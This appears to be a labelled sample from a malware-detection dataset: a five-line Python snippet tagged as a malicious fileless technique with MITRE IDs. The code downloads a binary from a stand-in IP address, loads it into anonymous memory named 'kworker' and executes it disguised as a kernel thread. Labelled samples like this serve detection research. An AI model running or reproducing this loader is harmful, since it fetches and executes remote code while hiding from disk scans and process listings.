# label: malicious family=fileless techniques=T1027.011,T1036.005,T1105,T1620 lines=3-6
import os, urllib.request
elf = urllib.request.urlopen("http://198.51.100.240/e").read()
fd = os.memfd_create("kworker", 0)
os.write(fd, elf)
os.execv("/proc/self/fd/%d" % fd, ["[kworker/0:1]"])
